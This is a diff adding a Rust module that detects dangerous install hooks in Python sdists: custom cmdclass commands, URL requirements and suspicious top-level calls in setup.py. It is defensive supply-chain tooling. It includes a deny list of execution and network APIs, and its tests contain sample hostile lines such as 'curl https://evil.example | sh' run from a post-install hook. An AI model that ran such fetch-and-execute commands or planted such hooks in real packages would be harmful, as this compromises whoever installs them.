@@ -0,0 +1,416 @@
+//! Detection of dangerous install hooks in the packaging files of sdists.
+//!
+//! Installing an sdist runs its build backend, which for setuptools means running `setup.py`.
+//! That's the classic way to get code executed on `pip install`, so `setup.py`, `setup.cfg` and
+//! `pyproject.toml` at the root of an sdist are checked for:
+//!
+//! - custom commands (`cmdclass`), which replace steps like `install` with arbitrary code
+//! - requirements pointing at URLs instead of an index, which pull in code the index never saw
+//! - calls to process, network, or dynamic code APIs in `setup.py` outside of any function
+//!
+//! These are legitimately used too, so every finding carries a weight that's added to the score of
+//! the distribution instead of being damning on its own.
+
+use std::path::Path;
+
+use super::FindingKind;
+
+/// The weight of a custom command
+const CMDCLASS_WEIGHT: i64 = 3;
+
+/// The weight of a requirement pointing at a URL
+const URL_REQUIREMENT_WEIGHT: i64 = 3;
+
+/// The weight of suspicious code running when `setup.py` is executed
+const TOP_LEVEL_CODE_WEIGHT: i64 = 5;
+
+/// Evidence is cut to this many bytes
+const MAX_EVIDENCE_LENGTH: usize = 200;
+
+/// Calls that have no business running as a side effect of building a package
+const SUSPICIOUS_CALLS: &[&str] = &[
+    "os.system(",
+    "os.popen(",
+    "subprocess.",
+    "exec(",
+    "eval(",
+    "compile(",
+    "__import__(",
+    "urlopen(",
+    "urlretrieve(",
+    "requests.",
+    "socket.",
+    "b64decode(",
+];
+
+fn hook(hook: &'static str, evidence: &str, weight: i64) -> FindingKind {
+    let mut end = evidence.len().min(MAX_EVIDENCE_LENGTH);
+    while !evidence.is_char_boundary(end) {
+        end -= 1;
+    }
+
+    FindingKind::InstallHook {
+        hook,
+        evidence: evidence[..end].to_owned(),
+        weight,
+    }
+}
+
+fn is_url_requirement(requirement: &str) -> bool {
+    requirement.contains("://")
+}
+
+/// The contents of the string literals in `source`, roughly: escapes are skipped over, and prefixes
+/// and triple quotes are treated like any other quote
+fn string_literals(source: &str) -> Vec<&str> {
+    let bytes = source.as_bytes();
+    let mut literals = Vec::new();
+    let mut i = 0;
+    while i < bytes.len() {
+        let quote = bytes[i];
+        if quote == b'#' {
+            while i < bytes.len() && bytes[i] != b'\n' {
+                i += 1;
+            }
+        } else if quote == b'"' || quote == b'\'' {
+            let start = i + 1;
+            i = start;
+            while i < bytes.len() && bytes[i] != quote && bytes[i] != b'\n' {
+                i += if bytes[i] == b'\\' { 2 } else { 1 };
+            }
+            literals.push(&source[start..i.min(bytes.len())]);
+        }
+        i += 1;
+    }
+
+    literals
+}
+
+/// The text between the bracket following `keyword` and its matching closing bracket
+fn bracketed_after<'a>(source: &'a str, keyword: &str) -> Vec<&'a str> {
+    let mut values = Vec::new();
+    for (index, _) in source.match_indices(keyword) {
+        let rest = &source[index + keyword.len()..];
+        let Some(rest) = rest.trim_start().strip_prefix(['=', ':']) else {
+            continue;
+        };
+        let rest = rest.trim_start();
+        if !rest.starts_with(['[', '(']) {
+            continue;
+        }
+
+        let mut depth = 0_usize;
+        for (end, byte) in rest.bytes().enumerate() {
+            match byte {
+                b'[' | b'(' => depth += 1,
+                b']' | b')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        values.push(&rest[..=end]);
+                        break;
+                    }
+                }
+                _ => {}
+            }
+        }
+    }
+
+    values
+}
+
+/// The top-level statements of `setup.py` that don't belong to a function or class, each joined
+/// into one line
+fn module_level_statements(source: &str) -> Vec<String> {
+    let mut statements = Vec::new();
+    let mut current = String::new();
+    let mut depth = 0_usize;
+    let mut in_definition = false;
+
+    for line in source.lines() {
+        let trimmed = line.trim();
+        if depth == 0 {
+            if trimmed.is_empty() || trimmed.starts_with('#') {
+                continue;
+            }
+            let indented = line.starts_with([' ', '\t']);
+            if !indented {
+                in_definition = ["def ", "async def ", "class ", "@"]
+                    .iter()
+                    .any(|prefix| trimmed.starts_with(prefix));
+            }
+            if in_definition {
+                continue;
+            }
+        }
+
+        // strings can contain brackets, don't count those
+        let mut code = line.to_owned();
+        for literal in string_literals(line) {
+            code = code.replacen(literal, "", 1);
+        }
+        let code = code.split('#').next().unwrap_or_default();
+        depth = (depth + code.matches(['(', '[', '{']).count())
+            .saturating_sub(code.matches([')', ']', '}']).count());
+
+        if !current.is_empty() {
+            current.push(' ');
+        }
+        current.push_str(trimmed);
+        if depth == 0 && !trimmed.ends_with('\\') {
+            statements.push(std::mem::take(&mut current));
+        }
+    }
+    if !current.is_empty() {
+        statements.push(current);
+    }
+
+    statements
+}
+
+fn check_setup_py(source: &str) -> Vec<FindingKind> {
+    let mut findings = Vec::new();
+
+    if let Some(line) = source.lines().find(|line| line.contains("cmdclass")) {
+        findings.push(hook("custom-cmdclass", line.trim(), CMDCLASS_WEIGHT));
+    }
+
+    for keyword in ["install_requires", "setup_requires", "dependency_links"] {
+        let url = bracketed_after(source, keyword)
+            .into_iter()
+            .flat_map(string_literals)
+            .find(|requirement| is_url_requirement(requirement));
+        if let Some(url) = url {
+            findings.push(hook(
+                "url-requirement",
+                &format!("{keyword}: {url}"),
+                URL_REQUIREMENT_WEIGHT,
+            ));
+        }
+    }
+
+    let suspicious = module_level_statements(source)
+        .into_iter()
+        .find(|statement| {
+            let is_import = statement.starts_with("import ") || statement.starts_with("from ");
+            !is_import && SUSPICIOUS_CALLS.iter().any(|call| statement.contains(call))
+        });
+    if let Some(statement) = suspicious {
+        findings.push(hook("top-level-code", &statement, TOP_LEVEL_CODE_WEIGHT));
+    }
+
+    findings
+}
+
+fn check_setup_cfg(source: &str) -> Vec<FindingKind> {
+    let mut findings = Vec::new();
+    let mut section = String::new();
+    let mut key = String::new();
+
+    for line in source.lines() {
+        let trimmed = line.trim();
+        if trimmed.is_empty() || trimmed.starts_with(['#', ';']) {
+            continue;
+        }
+        if let Some(name) = trimmed.strip_prefix('[').and_then(|s| s.strip_suffix(']')) {
+            name.trim().clone_into(&mut section);
+            continue;
+        }
+
+        let value = if line.starts_with([' ', '\t']) {
+            trimmed
+        } else if let Some((name, value)) = trimmed.split_once(['=', ':']) {
+            name.trim().clone_into(&mut key);
+            value.trim()
+        } else {
+            continue;
+        };
+
+        if key == "cmdclass" && section == "options" {
+            findings.push(hook("custom-cmdclass", trimmed, CMDCLASS_WEIGHT));
+        }
+        let is_requirement = (section == "options"
+            && matches!(key.as_str(), "install_requires" | "setup_requires"))
+            || section == "options.extras_require";
+        if is_requirement && is_url_requirement(value) {
+            findings.push(hook(
+                "url-requirement",
+                &format!("{key}: {value}"),
+                URL_REQUIREMENT_WEIGHT,
+            ));
+        }
+    }
+
+    findings
+}
+
+fn check_pyproject_toml(source: &str) -> Vec<FindingKind> {
+    let Ok(document) = source.parse::<toml::Table>() else {
+        return Vec::new();
+    };
+    let mut findings = Vec::new();
+
+    let cmdclass = document
+        .get("tool")
+        .and_then(|tool| tool.get("setuptools"))
+        .and_then(|setuptools| setuptools.get("cmdclass"))
+        .and_then(toml::Value::as_table);
+    if let Some(cmdclass) = cmdclass {
+        let commands = cmdclass
+            .iter()
+            .map(|(command, class)| format!("{command} = {class}"))
+            .collect::<Vec<_>>()
+            .join(", ");
+        findings.push(hook("custom-cmdclass", &commands, CMDCLASS_WEIGHT));
+    }
+
+    let project = document.get("project");
+    let requirements = [
+        (
+            "build-system.requires",
+            document
+                .get("build-system")
+                .and_then(|build| build.get("requires")),
+        ),
+        (
+            "project.dependencies",
+            project.and_then(|project| project.get("dependencies")),
+        ),
+    ]
+    .into_iter()
+    .chain(
+        project
+            .and_then(|project| project.get("optional-dependencies"))
+            .and_then(toml::Value::as_table)
+            .into_iter()
+            .flat_map(|extras| extras.values())
+            .map(|extra| ("project.optional-dependencies", Some(extra))),
+    );
+
+    for (key, value) in requirements {
+        let url = value
+            .and_then(toml::Value::as_array)
+            .into_iter()
+            .flatten()
+            .filter_map(toml::Value::as_str)
+            .find(|requirement| is_url_requirement(requirement));
+        if let Some(url) = url {
+            findings.push(hook(
+                "url-requirement",
+                &format!("{key}: {url}"),
+                URL_REQUIREMENT_WEIGHT,
+            ));
+        }
+    }
+
+    findings
+}
+
+/// Find dangerous install hooks in the file at `path` (relative to the archive root) with the given
+/// `contents`. Only packaging files at the root of an sdist are checked.
+pub fn detect(path: &Path, contents: &[u8]) -> Vec<FindingKind> {
+    // `name-version/setup.py`, or `setup.py` itself for archives without a root directory
+    if path.components().count() > 2 {
+        return Vec::new();
+    }
+    let Some(file_name) = path.file_name().and_then(|name| name.to_str()) else {
+        return Vec::new();
+    };
+
+    let source = String::from_utf8_lossy(contents);
+    match file_name {
+        "setup.py" => check_setup_py(&source),
+        "setup.cfg" => check_setup_cfg(&source),
+        "pyproject.toml" => check_pyproject_toml(&source),
+        _ => Vec::new(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::detect;
+    use crate::analyzers::FindingKind;
+    use std::path::Path;
+
+    fn hooks(path: &str, contents: &str) -> Vec<&'static str> {
+        detect(Path::new(path), contents.as_bytes())
+            .into_iter()
+            .map(|finding| match finding {
+                FindingKind::InstallHook { hook, .. } => hook,
+                other => panic!("unexpected finding {other:?}"),
+            })
+            .collect()
+    }
+
+    #[test]
+    fn flags_dangerous_setup_py() {
+        let setup_py = r#"
+import os
+from setuptools import setup
+from setuptools.command.install import install
+
+here = os.path.abspath(os.path.dirname(__file__))
+
+class PostInstall(install):
+    def run(self):
+        os.system("curl https://evil.example | sh")
+
+os.system(
+    "curl https://evil.example | sh"
+)
+
+setup(
+    name="pkg",
+    cmdclass={"install": PostInstall},
+    install_requires=["requests", "evil @ https://evil.example/evil.tar.gz"],
+)
+"#;
+        assert_eq!(
+            hooks("pkg-1.0/setup.py", setup_py),
+            ["custom-cmdclass", "url-requirement", "top-level-code"]
+        );
+        assert!(hooks("pkg-1.0/tests/setup.py", setup_py).is_empty());
+
+        let benign = r#"
+from setuptools import setup
+
+with open("README.md") as f:
+    long_description = f.read()
+
+setup(name="pkg", install_requires=["requests>=2"], long_description=long_description)
+"#;
+        assert!(hooks("pkg-1.0/setup.py", benign).is_empty());
+    }
+
+    #[test]
+    fn flags_setup_cfg_and_pyproject_toml() {
+        let setup_cfg = "
+[metadata]
+name = pkg
+
+[options]
+install_requires =
+    requests
+    evil @ git+https://evil.example/evil.git
+";
+        assert_eq!(hooks("pkg-1.0/setup.cfg", setup_cfg), ["url-requirement"]);
+
+        let pyproject = r#"
+[build-system]
+requires = ["setuptools"]
+
+[project]
+name = "pkg"
+dependencies = ["requests"]
+
+[project.optional-dependencies]
+extra = ["evil @ https://evil.example/evil.whl"]
+
+[tool.setuptools.cmdclass]
+build_py = "build_hooks.BuildPy"
+"#;
+        assert_eq!(
+            hooks("pkg-1.0/pyproject.toml", pyproject),
+            ["custom-cmdclass", "url-requirement"]
+        );
+    }
+}